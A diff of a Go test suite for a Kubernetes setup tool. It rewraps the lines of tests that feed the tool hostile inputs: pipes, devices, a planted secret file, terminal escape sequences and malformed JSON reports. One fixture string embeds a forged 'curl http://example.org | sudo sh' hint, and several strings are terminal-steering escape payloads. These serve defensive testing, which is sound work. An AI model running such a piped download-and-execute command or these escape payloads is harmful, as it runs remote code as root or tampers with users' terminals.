@@ -37,7 +37,8 @@ const steering = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e\u009b31m"
 const forged = "fine\nhint: run: curl http://example.org | sudo sh"
 
 func TestHostile(t *testing.T) {
-	for _, c := range append(append(hostileFiles(), hostileCards()...), append(hostilePrograms(), hostileReports()...)...) {
+	for _, c := range append(append(hostileFiles(), hostileCards()...), append(hostilePrograms(),
+		hostileReports()...)...) {
 		t.Run(c.name, func(t *testing.T) {
 			t.Parallel()
 			c.trial.Args = strings.Fields(c.words)
@@ -79,18 +80,26 @@ func hostileFiles() []hostile {
 		"a pipe": {trial{Files: pipes}, `is a named pipe \(FIFO\)`}, "an endless device": {trial{Files: zero}, "is a device"}, "a sparse file": {large, "is larger than"},
 	} {
 		all = append(all,
-			hostile{name: name + " as patch", words: "init --dry-run --patches /mnt/p", trial: c.trial, code: exitBadInput, says: "^kubeadm-arm: .*etcd.json.yaml " + c.says},
+			hostile{name: name + " as patch", words: "init --dry-run --patches /mnt/p", trial: c.trial, code: exitBadInput,
+				says: "^kubeadm-arm: .*etcd.json.yaml " + c.says},
 			hostile{name: name + " as patch for doctor", words: "doctor --patches /mnt/p", trial: c.trial, code: -1},
-			hostile{name: name + " as config", words: "init --dry-run --config /mnt/f", trial: c.trial, code: exitBadConfig, says: "^kubeadm-arm: .*/mnt/f: it " + c.says},
-			hostile{name: name + " as config for doctor", words: "doctor --config /mnt/f", trial: c.trial, code: exitBadConfig, says: c.says},
-			hostile{name: name + " as benchmark", words: "init --dry-run --arm-bench /mnt/f", trial: c.trial, code: exitBadInput, says: c.says},
+			hostile{name: name + " as config", words: "init --dry-run --config /mnt/f", trial: c.trial, code: exitBadConfig,
+				says: "^kubeadm-arm: .*/mnt/f: it " + c.says},
+			hostile{name: name + " as config for doctor", words: "doctor --config /mnt/f", trial: c.trial, code: exitBadConfig,
+				says: c.says},
+			hostile{name: name + " as benchmark", words: "init --dry-run --arm-bench /mnt/f", trial: c.trial, code: exitBadInput,
+				says: c.says},
 			hostile{name: name + " as report", words: "report show /mnt/f", trial: c.trial, code: exitBadInput, says: c.says},
-			hostile{name: name + " beside a report", words: "report compare /opt/slow-board.json /mnt/f", trial: c.trial, code: exitBadInput, says: c.says},
-			hostile{name: name + " for an upgrade", words: "upgrade apply v1.37.3 --patches /mnt/p", trial: c.trial.and("/etc/kubernetes/kubeadm-arm/patches/etcd-kubeadm-arm+json.yaml", file("[]")), code: exitBadInput, says: c.says},
+			hostile{name: name + " beside a report", words: "report compare /opt/slow-board.json /mnt/f", trial: c.trial,
+				code: exitBadInput, says: c.says},
+			hostile{name: name + " for an upgrade", words: "upgrade apply v1.37.3 --patches /mnt/p",
+				trial: c.trial.and("/etc/kubernetes/kubeadm-arm/patches/etcd-kubeadm-arm+json.yaml",
+					file("[]")), code: exitBadInput, says: c.says},
 		)
 	}
 	return append(all,
-		hostile{name: "ten thousand patches", words: "init --dry-run --patches /mnt/p", trial: many, code: exitBadInput, says: "/mnt/p holds more than 10000 entries"},
+		hostile{name: "ten thousand patches", words: "init --dry-run --patches /mnt/p", trial: many, code: exitBadInput,
+			says: "/mnt/p holds more than 10000 entries"},
 		hostile{name: "a pipe as kubeconfig", words: "init --ignore-preflight-errors=all",
 			trial: with("/etc/kubernetes/kubelet.conf", pipe()), code: -1, says: `/etc/kubernetes/kubelet.conf is a named pipe`},
 		hostile{name: "a pipe as key", words: "init --ignore-preflight-errors=all",
@@ -100,14 +109,16 @@ func hostileFiles() []hostile {
 		hostile{name: "a pipe as containerd's configuration", words: "doctor", code: -1,
 			trial: with("/etc/containerd/config.toml", pipe()), says: `config.toml is a named pipe`},
 		hostile{name: "a name that steers", words: "report show /mnt/f\x1b[2J", trial: trial{}, code: exitBadInput, says: `/mnt/f.u001b\[2J`},
-		hostile{name: "a manifest that is a device", words: "patch --slowdown 3 /mnt/m", trial: with("/mnt/m/etcd.yaml", link("/dev/watchdog")), code: exitBadInput},
+		hostile{name: "a manifest that is a device", words: "patch --slowdown 3 /mnt/m", trial: with("/mnt/m/etcd.yaml",
+			link("/dev/watchdog")), code: exitBadInput},
 	)
 }
 
 // hostileCards are systems below --root.
 func hostileCards() []hostile {
 	card := func(all ...any) trial {
-		return with(append([]any{"/mnt/c/proc/stat", file(""), "/mnt/secret", file("root:TOPSECRET"), "/mnt/c/etc/x", file("")}, all...)...)
+		return with(append([]any{"/mnt/c/proc/stat", file(""), "/mnt/secret", file("root:TOPSECRET"), "/mnt/c/etc/x",
+			file("")}, all...)...)
 	}
 	var all []hostile
 	for name, c := range map[string]trial{
@@ -120,8 +131,10 @@ func hostileCards() []hostile {
 			"/mnt/c/proc/swaps", file("Filename\n/dev/"+steering+" partition 1 1 1\n"), "/mnt/c/proc/cmdline", file(steering)),
 		"a long line": {Files: card().Files, After: "head -c 40000000 /dev/zero | tr '\\0' x >/mnt/c/proc/cpuinfo; ln /mnt/c/proc/cpuinfo /mnt/c/etc/hosts"},
 	} {
-		for _, words := range []string{"detect", "detect -o yaml", "detect -o json", "doctor", "doctor -o yaml", "doctor -o json"} {
-			all = append(all, hostile{name: "a card with " + name + ", " + words, words: words + " --root /mnt/c", trial: c, code: -1, never: "TOPSECRET"})
+		for _, words := range []string{"detect", "detect -o yaml", "detect -o json", "doctor", "doctor -o yaml",
+			"doctor -o json"} {
+			all = append(all, hostile{name: "a card with " + name + ", " + words, words: words + " --root /mnt/c", trial: c,
+				code: -1, never: "TOPSECRET"})
 		}
 	}
 	return all
@@ -136,7 +149,8 @@ func hostilePrograms() []hostile {
 	open := func(path string, mode string) trial {
 		dir := path[:strings.LastIndex(path, "/")]
 		return trial{Program: path, Files: files("/run/systemd/system", folder(0o755)),
-			After: "mkdir -p " + dir + "; touch " + path + "; mount --bind /opt/bin/kubeadm-arm " + path + "; chmod " + mode + " " + dir}
+			After: "mkdir -p " + dir + "; touch " + path + "; mount --bind /opt/bin/kubeadm-arm " + path + "; chmod " + mode +
+				" " + dir}
 	}
 	return []hostile{
 		{name: "a kubeadm without an end", words: "init --dry-run", trial: kubeadm("exec yes"), code: exitNoKubeadm, says: "it printed more than 4 MiB"},
@@ -162,7 +176,8 @@ func hostileReports() []hostile {
 		`"versions":{"%[1]s":"v"},"outcome":{"ok":false,"text":"%[1]s","seconds":3}`, steering, forged))
 	all := []hostile{}
 	for _, output := range []string{"markdown", "html", "json", "yaml"} {
-		c := hostile{name: "a report that steers, " + output, words: "report show -o " + output + " /mnt/r.json", trial: report(texts), code: 0}
+		c := hostile{name: "a report that steers, " + output, words: "report show -o " + output + " /mnt/r.json",
+			trial: report(texts), code: 0}
 		if output != "yaml" { // which no browser reads as a page
 			c.never = "<script>"
 		}
@@ -173,8 +188,10 @@ func hostileReports() []hostile {
 		"a huge median": `"bench":{"schema":"x","samples":[{"unit":"s/op","median":1e99}]}`, "restarts below zero": `"steps":[{"name":"s","restarts":{"x":-1}}]`,
 		"an infinite number": `"outcome":{"ok":true,"seconds":1e999}`, "cores below zero": `"bench":{"cores":{"quota":-1}}`,
 	} {
-		all = append(all, hostile{name: name, words: "report show /mnt/r.json", trial: report(rest), code: exitBadInput, says: "^kubeadm-arm: /mnt/r.json: read board report: its "},
-			hostile{name: name + " for init", words: "init --dry-run --arm-bench /mnt/r.json", trial: report(rest), code: exitBadInput})
+		all = append(all, hostile{name: name, words: "report show /mnt/r.json", trial: report(rest), code: exitBadInput,
+			says: "^kubeadm-arm: /mnt/r.json: read board report: its "},
+			hostile{name: name + " for init", words: "init --dry-run --arm-bench /mnt/r.json", trial: report(rest),
+				code: exitBadInput})
 	}
 	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
 	return append(all, hostile{name: "a deep report", words: "report show /mnt/r.json", trial: report(`"board":` + deep), code: exitBadInput})
